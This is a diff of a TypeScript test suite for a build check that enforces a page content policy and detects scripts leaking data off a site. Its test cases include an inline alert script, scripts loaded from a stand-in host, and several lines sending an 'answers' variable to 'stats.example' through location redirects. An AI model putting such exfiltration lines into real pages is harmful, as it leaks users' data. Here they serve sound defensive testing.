@@ -1,13 +1,21 @@
 import { describe, expect, it } from "vitest";
-import { withPolicy } from "../../build/csp.mjs";
-import { openings } from "../../build/nothing-leaves.mjs";
+import { writePolicy } from "../../build/csp.mjs";
+import { htmlOf, parsePage } from "../../build/exported-page.mjs";
+import { openings, waysOut } from "../../build/nothing-leaves.mjs";
 
-const page = '<html><head><meta charset="utf-8"/></head><script src="/assets/a.js"></script></html>';
-const changed = (from: string, to: string) => openings(withPolicy(page).replace(from, to));
+const HTML = '<html><head><meta charset="utf-8"></head><body><script src="/assets/a.js"></script></body></html>';
+
+function withPolicy(html = HTML): string {
+  const page = parsePage(html, "/page");
+  writePolicy(page);
+  return htmlOf(page);
+}
+const openingsIn = (html: string) => openings(parsePage(html, "/page"));
+const changed = (from: string, to: string) => openingsIn(withPolicy().replace(from, to));
 
 describe("H15 what the build looks for in a page's policy", () => {
   it("is nothing in a page of the site", () => {
-    expect(openings(withPolicy(page))).toEqual([]);
+    expect(openingsIn(withPolicy())).toEqual([]);
   });
 
   it.each([
@@ -20,6 +28,32 @@ describe("H15 what the build looks for in a page's policy", () => {
   });
 
   it("is a page without any policy", () => {
-    expect(openings(page)).not.toEqual([]);
+    expect(openingsIn(HTML)).not.toEqual([]);
   });
+
+  it.each([
+    ["inside the page", "<script>alert(1)</script>"],
+    ["from another site", '<script src="https://stats.example/a.js"></script>'],
+    ["from another site without a protocol", '<script src="//stats.example/a.js"></script>'],
+  ])("a script %s stops the build, which names the page", (_, script) => {
+    expect(() => withPolicy(HTML.replace("</body>", `${script}</body>`))).toThrow("/page");
+  });
+});
+
+describe("H15 what the build looks for in scripts, which no policy stops", () => {
+  it.each([
+    "new RTCPeerConnection({iceServers:[]})",
+    'location.href="https://stats.example/?a="+answers',
+    "location.assign(`https://stats.example/${answers}`)",
+    "window.location = '//stats.example/?a=' + answers",
+  ])("is found: %s", (script) => {
+    expect(waysOut(script)).not.toEqual([]);
+  });
+
+  it.each(['location.replace("https://www.weather.gov/")', 'location.replace("/")', "location.reload()"])(
+    "is not the way out of the page, which carries nothing: %s",
+    (script) => {
+      expect(waysOut(script)).toEqual([]);
+    },
+  );
 });
